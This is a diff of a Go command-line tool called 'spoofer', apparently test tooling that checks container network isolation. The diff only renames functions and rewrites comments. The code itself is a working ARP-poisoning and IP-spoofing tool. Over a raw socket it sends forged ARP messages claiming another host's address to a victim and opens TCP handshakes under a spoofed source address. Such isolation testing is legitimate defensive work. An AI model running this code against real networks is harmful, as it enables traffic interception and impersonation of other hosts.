@@ -1,9 +1,10 @@
-// Command spoofer is the program of a hostile container: with a raw socket, which containers may have by default, it sends
-// frames under addresses that are not its own, and prints what comes back.
+// Command spoofer is the program of a hostile container. It uses a raw socket, which containers may
+// open by default, to send frames with source addresses of others, and prints the received
+// responses.
 //
 //	spoofer wait
 //	spoofer syn SOURCE TARGET PORT      a TCP handshake as SOURCE; prints "answered" or "no answer"
-//	spoofer arp VICTIM CLAIMED SECONDS  tell VICTIM that CLAIMED is here; prints how many of its packets came
+//	spoofer arp VICTIM CLAIMED SECONDS  claims the address CLAIMED in ARP messages to VICTIM; prints how many of its packets arrived
 package main
 
 import (
@@ -21,19 +22,20 @@ import (
 )
 
 const (
-	answerLimit = 5 * time.Second        // for the answer to a handshake
-	repeatEvery = 200 * time.Millisecond // between repetitions of what was sent
+	answerLimit = 5 * time.Second        // deadline of a TCP handshake
+	repeatEvery = 200 * time.Millisecond // interval at which frames are repeated
 	sourcePort  = 45678
 )
 
 func main() {
-	if err := run(os.Args[1:]); err != nil {
+	if err := runCommand(os.Args[1:]); err != nil {
 		fmt.Println("error:", err)
 		os.Exit(1)
 	}
 }
 
-func run(args []string) error {
+// runCommand runs the subcommand in args.
+func runCommand(args []string) error {
 	if len(args) == 1 && args[0] == "wait" {
 		stopped := make(chan os.Signal, 1)
 		signal.Notify(stopped, unix.SIGTERM)
@@ -55,37 +57,38 @@ func run(args []string) error {
 	if err != nil {
 		return err
 	}
-	s, err := open("eth0")
+	s, err := openRawSocket("eth0")
 	if err != nil {
 		return err
 	}
 	if args[0] == "syn" {
-		return s.handshake(first, second, uint16(n))
+		return s.spoofHandshake(first, second, uint16(n))
 	}
-	return s.poison(first, second, time.Duration(n)*time.Second)
+	return s.poisonARP(first, second, time.Duration(n)*time.Second)
 }
 
-// socket is a raw socket on an interface.
-type socket struct {
-	fd    int
-	index int
-	mac   net.HardwareAddr
-	own   netip.Addr
+// rawSocket is a raw socket on an interface.
+type rawSocket struct {
+	fd         int
+	index      int
+	mac        net.HardwareAddr
+	ownAddress netip.Addr
 }
 
-func open(name string) (*socket, error) {
+// openRawSocket opens a raw socket on an interface.
+func openRawSocket(name string) (*rawSocket, error) {
 	link, err := net.InterfaceByName(name)
 	if err != nil {
 		return nil, err
 	}
-	s := &socket{index: link.Index, mac: link.HardwareAddr}
+	s := &rawSocket{index: link.Index, mac: link.HardwareAddr}
 	addrs, err := link.Addrs()
 	if err != nil {
 		return nil, err
 	}
 	for _, a := range addrs {
 		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
-			s.own = p.Addr()
+			s.ownAddress = p.Addr()
 		}
 	}
 	all := uint16(unix.ETH_P_ALL)
@@ -98,20 +101,24 @@ func open(name string) (*socket, error) {
 		unix.SetsockoptTimeval(s.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit))
 }
 
-func (s *socket) send(to net.HardwareAddr, kind uint16, payload []byte) error {
-	frame := append(append([]byte{}, to...), s.mac...)
-	frame = append(binary.BigEndian.AppendUint16(frame, kind), payload...)
+// sendFrame sends an Ethernet frame with this EtherType and payload to a hardware address.
+func (s *rawSocket) sendFrame(target net.HardwareAddr, etherType uint16, payload []byte) error {
+	frame := append(append([]byte{}, target...), s.mac...)
+	frame = append(binary.BigEndian.AppendUint16(frame, etherType), payload...)
 	return unix.Sendto(s.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: s.index, Halen: 6})
 }
 
-func (s *socket) arp(to net.HardwareAddr, op byte, sender, target netip.Addr) error {
+// sendARP sends an ARP message to a hardware address. op is the ARP operation. The message maps the
+// address sender to this interface's hardware address.
+func (s *rawSocket) sendARP(destination net.HardwareAddr, op byte, sender, target netip.Addr) error {
 	b := append([]byte{0, 1, 8, 0, 6, 4, 0, op}, s.mac...)
 	b = append(append(append(b, sender.AsSlice()...), make([]byte, 6)...), target.AsSlice()...)
-	return s.send(to, unix.ETH_P_ARP, b)
+	return s.sendFrame(destination, unix.ETH_P_ARP, b)
 }
 
-// until reads frames until one is wanted or the time is over, and repeats what is sent meanwhile.
-func (s *socket) until(limit time.Duration, repeat func() error, wanted func(frame []byte) bool) (bool, error) {
+// readUntil reads frames until wanted returns true, and then returns true. It returns false when
+// the time limit is over. Meanwhile it calls repeat every repeatEvery.
+func (s *rawSocket) readUntil(limit time.Duration, repeat func() error, wanted func(frame []byte) bool) (bool, error) {
 	buffer := make([]byte, 2048)
 	last := time.Time{}
 	for end := time.Now().Add(limit); time.Now().Before(end); {
@@ -131,29 +138,35 @@ func (s *socket) until(limit time.Duration, repeat func() error, wanted func(fra
 
 var broadcast = net.HardwareAddr{255, 255, 255, 255, 255, 255}
 
-// resolve returns the hardware address of a neighbor, asked for under the own address.
-func (s *socket) resolve(of netip.Addr) (mac net.HardwareAddr, err error) {
-	found, err := s.until(answerLimit, func() error { return s.arp(broadcast, 1, s.own, of) }, func(f []byte) bool {
+// resolveMAC returns the hardware address of the neighbor with this IP address. The ARP request has
+// this interface's own address as its source.
+func (s *rawSocket) resolveMAC(neighbor netip.Addr) (mac net.HardwareAddr, err error) {
+	found, err := s.readUntil(answerLimit, func() error {
+		return s.sendARP(broadcast, 1, s.ownAddress, neighbor)
+	}, func(f []byte) bool {
 		sender, ok := netip.AddrFromSlice(f[28:32])
-		if ok = ok && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_ARP && f[21] == 2 && sender == of; ok {
+		if ok = ok && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_ARP && f[21] == 2 && sender == neighbor; ok {
 			mac = append(net.HardwareAddr{}, f[22:28]...)
 		}
 		return ok
 	})
 	if err == nil && !found {
-		err = fmt.Errorf("%s has no hardware address", of)
+		err = fmt.Errorf("%s has no hardware address", neighbor)
 	}
 	return mac, err
 }
 
-// handshake opens a TCP connection as a source. An ARP announcement tells the target its hardware address.
-func (s *socket) handshake(source, target netip.Addr, port uint16) error {
-	mac, err := s.resolve(target)
+// spoofHandshake opens a TCP connection to target with the address source, which is not an address
+// of this machine. First it tells target by ARP that source is at this interface's hardware
+// address.
+func (s *rawSocket) spoofHandshake(source, target netip.Addr, port uint16) error {
+	mac, err := s.resolveMAC(target)
 	if err != nil {
 		return err
 	}
-	answered, err := s.until(answerLimit, func() error {
-		return errors.Join(s.arp(mac, 2, source, target), s.send(mac, unix.ETH_P_IP, syn(source, target, port)))
+	answered, err := s.readUntil(answerLimit, func() error {
+		return errors.Join(s.sendARP(mac, 2, source, target),
+			s.sendFrame(mac, unix.ETH_P_IP, synPacket(source, target, port)))
 	}, func(f []byte) bool {
 		return len(f) >= 54 && binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && f[23] == unix.IPPROTO_TCP &&
 			netip.AddrFrom4([4]byte(f[26:30])) == target && netip.AddrFrom4([4]byte(f[30:34])) == source &&
@@ -167,15 +180,16 @@ func (s *socket) handshake(source, target netip.Addr, port uint16) error {
 	return err
 }
 
-// poison tells a victim that an address is here, and counts the victim's packets that come to other addresses.
-func (s *socket) poison(victim, claimed netip.Addr, limit time.Duration) error {
-	mac, err := s.resolve(victim)
+// poisonARP claims the address claimed in ARP messages to victim until the time limit. It prints
+// the number of packets of the victim that arrive here although they are for other addresses.
+func (s *rawSocket) poisonARP(victim, claimed netip.Addr, limit time.Duration) error {
+	mac, err := s.resolveMAC(victim)
 	if err != nil {
 		return err
 	}
 	came := 0
-	_, err = s.until(limit, func() error {
-		return errors.Join(s.arp(mac, 2, claimed, victim), s.arp(mac, 1, claimed, victim))
+	_, err = s.readUntil(limit, func() error {
+		return errors.Join(s.sendARP(mac, 2, claimed, victim), s.sendARP(mac, 1, claimed, victim))
 	}, func(f []byte) bool {
 		if binary.BigEndian.Uint16(f[12:]) == unix.ETH_P_IP && netip.AddrFrom4([4]byte(f[26:30])) == victim &&
 			netip.AddrFrom4([4]byte(f[30:34])) == claimed {
@@ -187,8 +201,8 @@ func (s *socket) poison(victim, claimed netip.Addr, limit time.Duration) error {
 	return err
 }
 
-// syn returns an IPv4 packet that opens a TCP connection.
-func syn(source, target netip.Addr, port uint16) []byte {
+// synPacket returns an IPv4 packet that opens a TCP connection.
+func synPacket(source, target netip.Addr, port uint16) []byte {
 	tcp := make([]byte, 20)
 	binary.BigEndian.PutUint16(tcp, sourcePort)
 	binary.BigEndian.PutUint16(tcp[2:], port)
@@ -203,7 +217,7 @@ func syn(source, target netip.Addr, port uint16) []byte {
 	return append(ip, tcp...)
 }
 
-// checksum is that of IP and TCP, of an even number of bytes.
+// checksum returns the IP and TCP checksum of an even number of bytes.
 func checksum(b []byte) uint16 {
 	var sum uint32
 	for i := 0; i+1 < len(b); i += 2 {
